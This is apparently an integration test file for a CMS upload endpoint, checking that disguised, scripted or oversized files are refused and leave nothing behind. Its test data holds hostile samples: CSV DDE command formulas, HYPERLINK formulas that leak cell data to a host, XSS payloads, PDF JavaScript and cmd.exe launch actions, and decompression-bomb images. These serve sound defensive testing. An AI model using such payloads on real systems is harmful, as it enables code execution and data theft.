import { deflateSync } from 'node:zlib';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { inOneGo } from '../../src/operations/jobs';
import type * as inspection from '../../src/uploads/inspect';
import type * as olderFiles from '../../src/uploads/older-files';
import { app, compiled, send, signIn, visit, type AdminSession } from '../support/app';
import { addressOf } from '../support/editor';
import { withFault } from '../support/fault';
import { FILE } from '../support/types';

let bulgarian: AdminSession;
let english: AdminSession;

beforeAll(async () => {
  bulgarian = await signIn('bg');
  english = await signIn('en');
});
const stored: number[] = [];
afterAll(() => bulgarian.post('/upload/actions/bulk-delete', { fileIds: stored }).expect(200));

const uploads = () => path.join(app().dirs.static.public, 'uploads');
/** All that an upload can leave behind: temporary files, stored files, rows. */
const kept = async () => ({
  temporary: readdirSync(os.tmpdir()).sort(),
  stored: readdirSync(uploads()).sort(),
  rows: await app().db.query(FILE).count(),
});
const text = (content: string) => Buffer.from(content);
const picture = (format: 'png' | 'jpeg' | 'webp' | 'gif' | 'tiff' | 'avif', width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#274' } })
    .toFormat(format)
    .toBuffer();

/** A PNG that says how large it is and has the data for it, in one colour: a billion pixels in a megabyte. */
const pngOf = (width: number, height: number, data: Buffer) => {
  const chunk = (type: string, body: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), body]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(body.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // one bit a pixel, grey
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(data)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};
const crc32 = (bytes: Buffer) => {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
};

/** An archive without compression, as Office and others make them. */
const zipOf = (...entries: [string, string][]) => {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const body = Buffer.from(content);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt32LE(crc32(body), 10);
    fields.writeUInt32LE(body.length, 14);
    fields.writeUInt32LE(body.length, 18);
    fields.writeUInt16LE(name.length, 22);
    const entry = Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(name), body]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    central.push(
      Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, tail, Buffer.from(name)]),
    );
    local.push(entry);
    offset += entry.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...local, directory, Buffer.from('PK\x05\x06'), end]);
};
const ODT = 'application/vnd.oasis.opendocument.text';
const contentTypes = (main: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="${main}.main+xml"/></Types>`;
const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const docx = () =>
  zipOf(
    ['[Content_Types].xml', contentTypes(`${OPEN_XML}.wordprocessingml.document`)],
    ['word/document.xml', '<w/>'],
  );
const odt = (...more: [string, string][]) => zipOf(['mimetype', ODT], ['content.xml', '<o/>'], ...more);
const compound = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1016),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(512),
  ]);
const pdfWith = (entries: string) =>
  text(`%PDF-1.4\n1 0 obj<</Type/Catalog${entries}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
const pdfWithStream = (objects: string) =>
  Buffer.concat([
    pdfWith(''),
    text('2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n'),
    deflateSync(text(objects)),
    text('\nendstream endobj\n%%EOF\n'),
  ]);
const PDF = pdfWith('');
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const HTML = text('<!doctype html><script>alert(document.domain)</script>');
const WINDOWS_1251 = Buffer.from('cee1f9e8ede03be3eee4e8ede00d0ad2f0eeffed3b313938370d0a', 'hex');

type Bytes = Buffer | Promise<Buffer>;
const sent = (admin: AdminSession, name: string, bytes: Buffer, address = '/upload') =>
  admin.form(address).attach('files', bytes, { filename: name, contentType: 'image/jpeg' });

describe('a file is refused by its bytes, at the file, and nothing of it is left', () => {
  const REFUSED: [name: string, bytes: () => Bytes, code: string][] = [
    ['arhiv.jpg', () => zipOf(['a.html', '<p>']), 'file_not_its_kind'],
    ['gerb.png', () => SVG, 'file_not_its_kind'],
    ['gerb.svg', () => SVG, 'file_kind_unknown'],
    ['tablitsa.csv', () => HTML, 'text_with_markup'],
    ['belezhka.txt', () => text('Покана\n<img src=x onerror=alert(1)>'), 'text_with_markup'],
    ['utf16.txt', () => Buffer.from(`\ufeff${HTML.toString()}`, 'utf16le'), 'text_with_markup'],
    ['xml.txt', () => text('<?xml version="1.0"?><html xmlns="x"/>'), 'text_with_markup'],
    ['program.txt', () => text('MZ\u0000\u0003\u0000'), 'text_unreadable'],
    ['dde.csv', () => text(`Община;Партньор\nТроян;=cmd|' /C calc'!A0\n`), 'table_with_formula'],
    ['dde.csv', () => text(`Троян,"-2+3+cmd|' /C calc'!A0"\n`), 'table_with_formula'],
    ['dde.csv', () => text(`=""+cmd|' /C calc'!A0`), 'table_with_formula'],
    ['formula.csv', () => text(`="a"&HYPERLINK("https://a.example","b")`), 'table_with_formula'],
    ['formula.csv', () => text(`Троян,"=""a"" & HYPERLINK(""https://a.example"")"\n`), 'table_with_formula'],
    ['formula.csv', () => text(`Троян;=""\n;=""&A1\n`), 'table_with_formula'],
    ['formula.csv', () => text(`="${'"'.repeat(200_000)}`), 'table_with_formula'],
    ['formula.csv', () => text(`Троян;+HYPERLINK("https://a.example/?"&A1;"b")\n`), 'table_with_formula'],
    ['formula.csv', () => text(`Троян;-1+SUM(A1:A9)\n`), 'table_with_formula'],
    ['skript.pdf', () => pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'file_with_program'],
    ['skript.pdf', () => pdfWith('/OpenAction<</S/#4aavaScript/JS(app.alert(1))>>'), 'file_with_program'],
    ['skript.pdf', () => pdfWith('/OpenAction<</S /Launch/F(cmd.exe)>>'), 'file_with_program'],
    ['skript.pdf', () => pdfWithStream('1 0 <</S/JavaScript/JS(app.alert(1))>>'), 'file_with_program'],
    ['makros.doc', () => compound('WordDocument_VBA_PROJECT'), 'file_with_program'],
    ['makros.odt', () => odt(['Basic/Standard/Module1.xml', '<m/>']), 'file_with_program'],
    ['obekt.rtf', () => text('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'), 'file_with_program'],
    ['stranitsa.html', () => HTML, 'file_kind_unknown'],
    ['stranitsa.jpg', () => HTML, 'file_not_its_kind'],
    ['stranitsa.pdf', () => HTML, 'file_not_its_kind'],
    ['pokana.pdf', () => picture('png'), 'file_not_its_kind'],
    ['tekst.csv', () => PDF, 'file_not_its_kind'],
    [
      'makros.docx',
      () =>
        zipOf(
          ['[Content_Types].xml', contentTypes('application/vnd.ms-word.document.macroEnabled')],
          ['word/document.xml', ''],
        ),
      'file_not_its_kind',
    ],
    ['arhiv.docx', () => zipOf(['a.txt', 'a']), 'file_not_its_kind'],
    ['arhiv.zip', () => zipOf(['a.txt', 'a']), 'file_kind_unknown'],
    ['instalator.doc', () => compound('!Program'), 'file_not_its_kind'],
    ['pismo.xls', () => compound('WordDocument'), 'file_not_its_kind'],
    ['kalendar.ics', () => text('Покана'), 'file_not_its_kind'],
    ['snimka.tiff', () => picture('tiff'), 'file_kind_unknown'],
    ['snimka.jpg', () => picture('avif'), 'file_not_its_kind'],
    ['bez-razshirenie', () => text('Покана'), 'file_kind_unknown'],
    ['.jpg', () => text('Покана'), 'file_kind_unknown'],
    ['prazen.jpg', () => Buffer.alloc(0), 'file_empty'],
    ['skasana.jpg', async () => (await picture('jpeg', 400, 300)).subarray(0, 700), 'picture_broken'],
    ['skasana.png', async () => (await picture('png', 900, 900)).subarray(0, 60), 'picture_broken'],
    ['skasana.gif', () => text('GIF89a<script>alert(1)</script>'), 'picture_broken'],
  ];
  const DOORS = ['/upload', '/upload/files'];

  test.each(REFUSED)('%s: %#', async (name, bytes, code) => {
    const state = await kept();
    for (const door of DOORS)
      for (const [admin, language] of [
        [bulgarian, /[а-я]/],
        [english, /^[^а-я]+$/],
      ] as const) {
        const { body } = await sent(admin, name, await bytes(), door).expect(400);
        expect(body.error.details.errors).toMatchObject([{ code, path: ['files', 0] }]);
        expect(body.error.message).toMatch(language);
        expect(body.error.message).toContain(name);
      }
    expect(await kept()).toEqual(state);
  });

  test('of several none is stored when one is refused, and each that is refused is named', async () => {
    const state = await kept();
    const { body } = await bulgarian
      .form('/upload')
      .attach('files', Buffer.concat([await picture('png'), Buffer.alloc(3_000_000)]), 'dobra.png')
      .attach('files', SVG, 'losha.png')
      .attach('files', HTML, 'losha.csv')
      .expect(400);
    expect(body.error.details.errors).toMatchObject([{ path: ['files', 1] }, { path: ['files', 2] }]);
    expect(body.error.message).toMatch(/„losha\.png“.*„losha\.csv“/);
    expect(await kept()).toEqual(state);
  });
});

describe('a file is stored as what its bytes say', () => {
  const TAKEN: [name: string, bytes: () => Bytes, ext: string, mime: string][] = [
    ['Площад.JPEG', () => picture('jpeg'), '.jpg', 'image/jpeg'],
    ['ploshtad.png', () => picture('png'), '.png', 'image/png'],
    ['снимка.webp', () => picture('webp'), '.webp', 'image/webp'],
    ['знаме.gif', () => picture('gif'), '.gif', 'image/gif'],
    ['всъщност-png.jpg', () => picture('png'), '.png', 'image/png'],
    ['blob', () => picture('png'), '.png', 'image/png'],
    ['Покана.pdf', () => PDF, '.pdf', 'application/pdf'],
    ['Протокол.docx', docx, '.docx', `${OPEN_XML}.wordprocessingml.document`],
    ['Протокол.rtf', () => text('{\\rtf1\\ansi Протокол}'), '.rtf', 'application/rtf'],
    ['Протокол с библиотека.odt', () => odt(['Basic/Standard/script-lb.xml', '<l/>']), '.odt', ODT],
    ['Устав.pdf', () => pdfWithStream('1 0 <</Title(/JavaScripts)>>'), '.pdf', 'application/pdf'],
    ['Протокол.odt', () => odt(), '.odt', ODT],
    ['Протокол.doc', () => compound('WordDocument'), '.doc', 'application/msword'],
    ['Партньори.xls', () => compound('Workbook'), '.xls', 'application/vnd.ms-excel'],
    [
      'Партньори.csv',
      () => text('Община;Партньор;Телефон\nТроян;Лом;+359 (2) 123\nа < б, ivan <ivan@troyan.bg>;"- да!";-5'),
      '.csv',
      'text/csv',
    ],
    ['Кодове.csv', () => text('="0123";Троян\n"=""0456""",Лом\n'), '.csv', 'text/csv'],
    ['От Excel.csv', () => WINDOWS_1251, '.csv', 'text/csv'],
    ['Кавички.csv', () => text('"-'.repeat(1_000_000)), '.csv', 'text/csv'],
    ['BMW.txt', () => text('BMW Group, Мюнхен'), '.txt', 'text/plain'],
    ['Среща.ics', () => text('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'), '.ics', 'text/calendar'],
  ];

  test.each(TAKEN)('%s', async (name, bytes, ext, mime) => {
    const state = await kept();
    const { body } = await sent(english, name, await bytes()).expect(201);
    expect(body[0]).toMatchObject({ name, ext, mime });
    expect(body[0].url).toMatch(/^\/uploads\/[a-z0-9-]{1,30}_[0-9a-f]{10}\.[a-z]{3,4}$/);
    expect((await kept()).temporary).toEqual(state.temporary);
    await english.delete(`/upload/files/${body[0].id}`).expect(200);
    expect(await kept()).toEqual(state);
  });

  test('a PDF with the number of its pages, also when it is replaced', async () => {
    const pdf = (count: number) => pdfWithStream(`2 0 <</Type/Pages/Kids[3 0 R]/Count ${count}>>`);
    const { body } = await sent(english, 'Отчет.pdf', pdf(12)).expect(201);
    const address = `/upload/files/${body[0].id}`;
    expect((await english.get(address).expect(200)).body.pages).toBe(12);
    await sent(english, 'Отчет.pdf', pdf(13), `/upload?id=${body[0].id}`).expect(200);
    expect((await english.get(address).expect(200)).body.pages).toBe(13);
    await english.delete(address).expect(200);
  });

  test('a PDF that was uploaded before pages were counted, once, and it does not look edited', async () => {
    const pdf = pdfWithStream('2 0 <</Type/Pages/Kids[3 0 R]/Count 12>>');
    const ids: number[] = [];
    for (const name of ['Отчет.pdf', 'Изгубен.pdf', 'План.pdf'])
      ids.push((await sent(english, name, pdf).expect(201)).body[0].id);
    const rows = () =>
      app()
        .db.query(FILE)
        .findMany({ where: { id: { $in: ids } }, orderBy: { id: 'asc' } });
    const [report, lost, plan] = await rows();
    const count = async () => {
      const { countPagesOfOlderFiles } = compiled<typeof olderFiles>('uploads/older-files');
      await inOneGo(countPagesOfOlderFiles(app()));
    };
    const forget = () => app().db.connection('files').whereIn('id', ids).update({ pages: null });

    await forget();
    renameSync(path.join(uploads(), `${lost.hash}.pdf`), path.join(uploads(), 'lost'));
    await app()
      .db.query('strapi::core-store')
      .deleteMany({ where: { key: { $contains: 'pages of files' } } });
    await count();
    expect(await rows()).toEqual([report, { ...lost, pages: null }, plan]);

    await forget();
    await count();
    expect((await rows()).map(({ pages }) => pages)).toEqual([null, null, null]);
    renameSync(path.join(uploads(), 'lost'), path.join(uploads(), `${lost.hash}.pdf`));
    await english.post('/upload/actions/bulk-delete', { fileIds: ids }).expect(200);
  });

  test('a photo without the position that a telephone wrote into it', async () => {
    const photo = await sharp(await picture('jpeg'))
      .withExif({
        IFD0: { Make: 'Fotoaparat' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '42/1 53/1 3899/100' },
      })
      .toBuffer();
    const { body } = await sent(bulgarian, 'Площадът.jpg', photo).expect(201);
    stored.push(body[0].id);
    const { exif = Buffer.alloc(0) } = await sharp(
      path.join(uploads(), path.basename(body[0].url)),
    ).metadata();
    // 3899, a number of the latitude, in either order of bytes.
    for (const number of [
      [0x0f, 0x3b],
      [0x3b, 0x0f],
    ])
      expect(exif.includes(Buffer.from(number))).toBe(false);
  });

  test('two of one name, each with what is said of it', async () => {
    const { body } = await bulgarian
      .form('/upload')
      .attach('files', await picture('png', 10, 10), 'image.png')
      .attach('files', await picture('png', 20, 20), 'image.png')
      .field('fileInfo', JSON.stringify({ name: 'image.png', caption: 'първа' }))
      .field('fileInfo', JSON.stringify({ name: 'image.png', caption: 'втора' }))
      .expect(201);
    stored.push(...body.map(({ id }: { id: number }) => id));
    expect(body).toMatchObject([
      { width: 10, caption: 'първа' },
      { width: 20, caption: 'втора' },
    ]);
  });
});

/** A GIF whose frames each say how large they are, and have a pixel of data. */
const gifOf = (width: number, height: number, count: number) => {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  const frame = Buffer.concat([
    Buffer.from([0x2c, 0, 0, 0, 0]),
    size,
    Buffer.from([0, 2, 2, 0x4c, 1, 0]), // no colours of its own; a block of codes of two bits
  ]);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    size,
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]), // two colours, black and white
    ...Array.from({ length: count }, () => frame),
    Buffer.from(';'),
  ]);
};

describe('pixels are counted before they are decoded', () => {
  // One bit a pixel: 61 million in 8 MB of zeros, which deflate to 8 kB.
  const LARGE: [string, () => Bytes, number][] = [
    ['61 megapixels', () => pngOf(7850, 7800, Buffer.alloc(7800 * 983)), 62],
    ['a header that promises 4 billion', () => pngOf(60_000, 60_000, Buffer.alloc(100)), 3600],
    ['frames that are small one by one', () => gifOf(1200, 1200, 50), 72],
  ];

  test.each(LARGE)('%s', async (_, bytes, megapixels) => {
    const name = megapixels === 72 ? 'film.gif' : 'ploshtad.png';
    const picture = await bytes();
    const state = await kept();
    const { body } = await sent(bulgarian, name, picture).expect(400);
    expect(body.error.details.errors).toMatchObject([
      { code: 'picture_too_large', params: { megapixels, most: 60 } },
    ]);
    expect(body.error.message).toContain(`${megapixels} мегапиксела`);
    expect(await kept()).toEqual(state);
  });

  test('59 megapixels are taken', async () => {
    const { body } = await sent(english, 'ploshtad.png', pngOf(7680, 7680, Buffer.alloc(7680 * 961))).expect(
      201,
    );
    stored.push(body[0].id);
    expect(body[0]).toMatchObject({ width: 7680, formats: { thumbnail: { width: 156 } } });
  });
});

describe('a form that is not what the screens send', () => {
  const raw = (admin: AdminSession, body: string, type = 'multipart/form-data; boundary=x', at = '/upload') =>
    admin.form(at).set('Content-Type', type).send(body);
  const part = (headers: string, body = 'x') => `--x\r\n${headers}\r\n\r\n${body}\r\n--x--\r\n`;
  const FILES = 'Content-Disposition: form-data; name="files"; filename="a.png"';

  const FORMS: [string, (admin: AdminSession) => ReturnType<AdminSession['form']>, number, string][] = [
    ['without a boundary', (admin) => raw(admin, 'x', 'multipart/form-data'), 400, 'form_malformed'],
    [
      'that ends early',
      (admin) => raw(admin, `--x\r\n${FILES}\r\nContent-Type: image/png\r\n\r\nx`),
      400,
      'form_malformed',
    ],
    ['that is none', (admin) => raw(admin, 'x'), 400, 'form_malformed'],
    [
      'without a file',
      (admin) => raw(admin, part('Content-Disposition: form-data; name="a"')),
      400,
      'file_missing',
    ],
    ['with a file as a text', (admin) => raw(admin, part(FILES)), 400, 'file_missing'],
    [
      'with a file of another name',
      (admin) => admin.form('/upload').attach('other', PDF, 'a.pdf'),
      400,
      'file_missing',
    ],
    ['that is JSON', (admin) => admin.post('/upload', {}), 400, 'file_missing'],
    ['that is JSON, for one file', (admin) => admin.post('/upload/files', {}), 400, 'file_missing'],
    [
      'with more files than one may send',
      (admin) => {
        const form = admin.form('/upload');
        for (let i = 0; i < 51; i += 1) void form.attach('files', PDF, 'a.pdf');
        return form;
      },
      400,
      'files_too_many',
    ],
    [
      'above 20 MB',
      (admin) => admin.form('/upload').attach('files', Buffer.alloc(21 * 1024 * 1024), 'a.png'),
      413,
      'file_too_large',
    ],
    [
      'above 20 MB together',
      (admin) =>
        admin
          .form('/upload')
          .attach('files', Buffer.alloc(11 * 1024 * 1024), 'a.png')
          .attach('files', Buffer.alloc(11 * 1024 * 1024), 'b.png'),
      413,
      'file_too_large',
    ],
    [
      'at another address',
      (admin) => admin.form('/upload/folders').attach('files', PDF, 'a.pdf'),
      415,
      'form_not_here',
    ],
    [
      'of the content manager',
      (admin) => admin.form(addressOf('api::visit.visit')).attach('files', PDF, 'a.pdf'),
      415,
      'form_not_here',
    ],
    ...[
      '{',
      '"x"',
      '[1]',
      '{"name":1}',
      '{"folder":"a"}',
      '{"focalPoint":{"x":1}}',
      `{"name":"${'щ'.repeat(2_001)}"}`,
    ].map((info): [string, (admin: AdminSession) => ReturnType<AdminSession['form']>, number, string] => [
      `that says of its file ${info.slice(0, 30)}`,
      (admin) => admin.form('/upload').field('fileInfo', info).attach('files', PDF, 'a.pdf'),
      400,
      'request_malformed',
    ]),
  ];

  test.each(FORMS)('%s is refused in a sentence', async (_, ask, status, code) => {
    const state = await kept();
    for (const [admin, language] of [
      [bulgarian, /^[А-Я„].*[а-я].*\.$/],
      [english, /^[^а-яА-Я]+\.$/],
    ] as const) {
      const { body } = await ask(admin).expect(status);
      expect(body.error.details.errors).toMatchObject([{ code }]);
      expect(body.error.message).toMatch(language);
    }
    expect(await kept()).toEqual(state);
  });

  test('of a visitor is not read at all', async () => {
    const state = await kept();
    await send('post', '/upload').attach('files', PDF, 'a.pdf').expect(401);
    expect(await kept()).toEqual(state);
  });

  test('that breaks off leaves nothing', async () => {
    const { httpServer } = app().server;
    await new Promise<void>((resolve) => httpServer.listen(0, '127.0.0.1', resolve));
    const { port } = httpServer.address() as AddressInfo; // it listens on TCP
    const state = await kept();
    const { authorization } = (bulgarian.form('/upload') as unknown as { header: Record<string, string> })
      .header; // superagent's own
    const asked = http.request({
      port,
      method: 'POST',
      path: '/upload',
      headers: { authorization: String(authorization), 'Content-Type': 'multipart/form-data; boundary=x' },
    });
    asked.on('error', () => undefined);
    asked.write(`--x\r\n${FILES}\r\nContent-Type: image/png\r\n\r\n${'x'.repeat(100_000)}`);
    await until(async () => (await kept()).temporary.length > state.temporary.length);
    asked.destroy();
    await until(async () => (await kept()).temporary.length === state.temporary.length);
    await new Promise((resolve) => httpServer.close(resolve));
    expect(await kept()).toEqual(state);
  });
});

/** Looks again until it is so; the run ends the test that waits in vain. */
const until = async (isSo: () => Promise<boolean>) => {
  while (!(await isSo())) await new Promise(setImmediate);
};

describe('what takes the place of a file', () => {
  let id: number;
  beforeAll(async () => {
    id = await english.upload('gerb.png');
    stored.push(id);
  });
  const replace = (admin: AdminSession, name: string, bytes: Buffer, at = `/upload/files/${id}/replace`) =>
    sent(admin, name, bytes, at);

  test('is of the same kind, and keeps its address', async () => {
    const { body: known } = await english.get(`/upload/files/${id}`).expect(200);
    for (const at of [`/upload?id=${id}`, `/upload/files/${id}/replace`]) {
      const { body } = await replace(english, 'нов герб.png', await picture('png', 300, 300), at).expect(200);
      expect(body).toMatchObject({ url: known.url, name: 'нов герб.png', width: 300, ext: '.png' });
    }
  });

  test.each([
    ['PDF for PNG', 'gerb.pdf', () => PDF, 'file_other_kind'],
    ['JPG for PNG', 'gerb.png', () => picture('jpeg'), 'file_other_kind'],
    ['HTML for PNG', 'gerb.png', () => HTML, 'file_not_its_kind'],
  ] as [string, string, () => Bytes, string][])('%s is refused', async (_, name, bytes, code) => {
    const state = await kept();
    for (const at of [`/upload?id=${id}`, `/upload/files/${id}/replace`]) {
      const { body } = await replace(bulgarian, name, await bytes(), at).expect(400);
      expect(body.error.details.errors).toMatchObject([{ code, path: ['files', 0] }]);
    }
    expect(await kept()).toEqual(state);
  });

  test.each(['0', 'x', '1e3', '99999999999', '1&id=2'])('id %s does not exist', async (wrong) => {
    const { status } = await replace(english, 'gerb.png', await picture('png'), `/upload?id=${wrong}`);
    expect([400, 404]).toContain(status);
  });
});

/** Mounts a small disk, where this user may: as the administrator of this machine. */
const mount = (...args: string[]) => spawnSync('mount', args).status === 0;
const canMount = (() => {
  const place = mkdtempSync(path.join(os.tmpdir(), 'disk-'));
  const isMounted = mount('-t', 'tmpfs', '-o', 'size=4k', 'tmpfs', place);
  if (isMounted) spawnSync('umount', [place]);
  rmSync(place, { recursive: true });
  return isMounted;
})();

describe('what cannot be stored', () => {
  const SMALL: [name: string, bytes: () => Bytes][] = [
    ['a.png', () => picture('png')],
    ['a.jpg', () => picture('jpeg', 400, 300)],
    ['a.pdf', () => PDF],
    ['a.csv', () => text('Община;Партньор\n')],
  ];

  test('because the folder is gone is answered 503 in a sentence, and leaves no row', async () => {
    const state = await kept();
    renameSync(uploads(), `${uploads()}-away`);
    try {
      for (const bytes of [await picture('png', 900, 900), PDF]) {
        const name = bytes === PDF ? 'a.pdf' : 'a.png';
        const { body } = await sent(bulgarian, name, bytes).expect(503).expect('Retry-After', '5');
        expect(body.error.message).toMatch(/^В момента файлове не могат да се запазват/);
      }
    } finally {
      renameSync(`${uploads()}-away`, uploads());
    }
    expect(await kept()).toEqual(state);
  });

  test('because the temporary folder is gone is answered 503, and no word about the picture', async () => {
    const state = await kept();
    renameSync(os.tmpdir(), `${os.tmpdir()}-away`);
    try {
      for (const [name, bytes] of SMALL) {
        const { body } = await sent(bulgarian, name, await bytes())
          .expect(503)
          .expect('Retry-After', '5');
        expect(body.error.message).toMatch(/^В момента файлове не могат да се запазват/);
      }
    } finally {
      renameSync(`${os.tmpdir()}-away`, os.tmpdir());
    }
    expect(await kept()).toEqual(state);
  });

  (canMount ? test : test.skip)('because the disk of temporary files is full: 503 or 507', async () => {
    const state = await kept();
    expect(mount('-t', 'tmpfs', '-o', 'size=256k', 'tmpfs', os.tmpdir())).toBe(true);
    try {
      const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
      const large = await sharp({
        create: { width: 600, height: 600, channels: 3, background: '#000', noise },
      })
        .png()
        .toBuffer();
      const answers = [await sent(bulgarian, 'golyama.png', large)];
      writeFileSync(path.join(os.tmpdir(), 'pulno'), Buffer.alloc(252 * 1024)); // one page is left, for a folder
      for (const [name, bytes] of SMALL) answers.push(await sent(bulgarian, name, await bytes()));
      for (const { status, body } of answers) {
        expect([503, 507]).toContain(status);
        expect(body.error.message).toMatch(
          /(не могат да се запазват|Няма свободно място).*Обадете се на администратора/,
        );
      }
      expect(readdirSync(os.tmpdir())).toEqual(['pulno']);
    } finally {
      spawnSync('umount', ['--lazy', os.tmpdir()]);
    }
    expect(await kept()).toEqual(state);
  });

  test('because not all of it arrived in the temporary folder says nothing of the file', async () => {
    const { inspectFile } = compiled<typeof inspection>('uploads/inspect');
    const filepath = path.join(os.tmpdir(), 'polovin');
    for (const [originalFilename, bytes] of SMALL) {
      const whole = await bytes();
      const file = { filepath, originalFilename, size: whole.length };
      writeFileSync(filepath, whole.subarray(0, whole.length / 2));
      await expect(inspectFile(file)).rejects.toMatchObject({ code: 'UPLOAD_FOLDER' });
      rmSync(filepath);
      await expect(inspectFile(file)).rejects.toMatchObject({ code: 'UPLOAD_FOLDER' });
    }
  });

  test('because the database refuses the row is taken off the disk, with what came before it', async () => {
    const state = await kept();
    await withFault({ table: 'files', when: 'insert', condition: "new.name = 'losha.png'" }, async () => {
      const { status } = await bulgarian
        .form('/upload')
        .attach('files', PDF, 'dobra.pdf')
        .attach('files', await picture('png', 900, 900), 'losha.png');
      expect(status).toBe(500); // a database that refuses for no reason known here
    });
    expect(await kept()).toEqual(state);
  });
});

test('a replacement that the database refuses leaves the file as it was, with all its sizes', async () => {
  const { body: first } = await bulgarian
    .form('/upload')
    .attach('files', await picture('png', 900, 900), 'gerb.png')
    .expect(201);
  const [{ id, url }] = first;
  stored.push(id);
  const bytes = () =>
    readdirSync(uploads())
      .sort()
      .map((name) => [name, readFileSync(path.join(uploads(), name)).toString('base64')]);
  const before = bytes();
  await withFault({ table: 'files', when: 'update', condition: "new.name = 'nov.png'" }, async () => {
    const { status } = await bulgarian
      .form(`/upload/files/${id}/replace`)
      .attach('files', await picture('png', 100, 100), 'nov.png');
    expect(status).toBe(500); // a database that refuses for no reason known here
  });
  expect(bytes()).toEqual(before);
  await bulgarian
    .form(`/upload/files/${id}/replace`)
    .attach('files', await picture('png', 100, 100), 'nov.png')
    .expect(200);
  const { width } = await sharp(path.join(app().dirs.static.public, url)).metadata();
  expect(width).toBe(100);
  expect(bytes().length).toBeLessThan(before.length); // a small picture has no smaller sizes
});

describe('the other doors', () => {
  test('the REST API, for a token with the right', async () => {
    const state = await kept();
    const { body: created } = await bulgarian
      .post('/admin/api-tokens', { name: 'качване', type: 'full-access', lifespan: null })
      .expect(201);
    const { id, accessKey } = created.data;
    const asSite = (name: string, bytes: Buffer) =>
      send('post', '/api/upload')
        .set('Authorization', `Bearer ${accessKey}`)
        .set('Accept-Language', 'en')
        .attach('files', bytes, name);
    const { body } = await asSite('a.png', SVG).expect(400);
    expect(body.error.message).toMatch(/^The file “a\.png” is called PNG/);
    await asSite('a.png', Buffer.alloc(21 * 1024 * 1024)).expect(413);
    await asSite('a.pdf', PDF).field('fileInfo', '{').expect(400);
    for (const sentInfo of [{ toString: 1 }, { name: 1 }, 'x', [1]])
      expect([
        JSON.stringify(sentInfo),
        (
          await send('post', '/api/upload?id=1')
            .set('Authorization', `Bearer ${accessKey}`)
            .send({ fileInfo: sentInfo })
        ).status,
      ]).toEqual([JSON.stringify(sentInfo), 400]);
    await visit('/api/upload/files/x').set('Authorization', `Bearer ${accessKey}`).expect(404);
    const tie = { ref: 'media.picture', refId: '1', field: 'file' };
    const { body: tied } = await asSite('a.pdf', PDF).field(tie).expect(400);
    const { body: tiedInAdmin } = await bulgarian
      .form('/upload')
      .attach('files', PDF, 'a.pdf')
      .field(tie)
      .expect(400);
    for (const { error } of [tied, tiedInAdmin])
      expect(error.details.errors).toMatchObject([{ code: 'file_tied_by_upload', path: ['ref'] }]);
    const { body: taken } = await asSite('Покана.pdf', PDF).expect(201);
    expect(taken).toMatchObject([{ name: 'Покана.pdf', ext: '.pdf' }]);
    await bulgarian.delete(`/upload/files/${taken[0].id}`).expect(200);
    await bulgarian.delete(`/admin/api-tokens/${id}`).expect(200);
    expect(await kept()).toEqual(state);
  });

  test('the logos of the admin are pictures', async () => {
    const state = await kept();
    const logo = (name: string, bytes: Buffer, contentType: string) =>
      bulgarian.form('/admin/project-settings').attach('menuLogo', bytes, { filename: name, contentType });
    for (const [name, bytes, type] of [
      ['gerb.svg', SVG, 'image/svg+xml'],
      ['gerb.html', HTML, 'image/png'],
      ['gerb.png', HTML, 'image/png'],
      ['gerb.pdf', PDF, 'image/png'],
    ] as const) {
      const { status, body } = await logo(name, bytes, type);
      expect([status, body.error.message]).toEqual([400, expect.stringMatching(/^Файлът „gerb\./)]);
    }
    expect(await kept()).toEqual(state);
    const { status, body } = await logo('gerb.png', await picture('png'), 'image/png');
    expect([status, body.menuLogo.ext]).toEqual([200, '.png']);
    const withLogo = await kept();
    const fault = {
      table: 'strapi_core_store_settings',
      when: 'update',
      condition: "new.key = 'core_admin_project-settings'",
    } as const;
    const other = await picture('png', 50, 50);
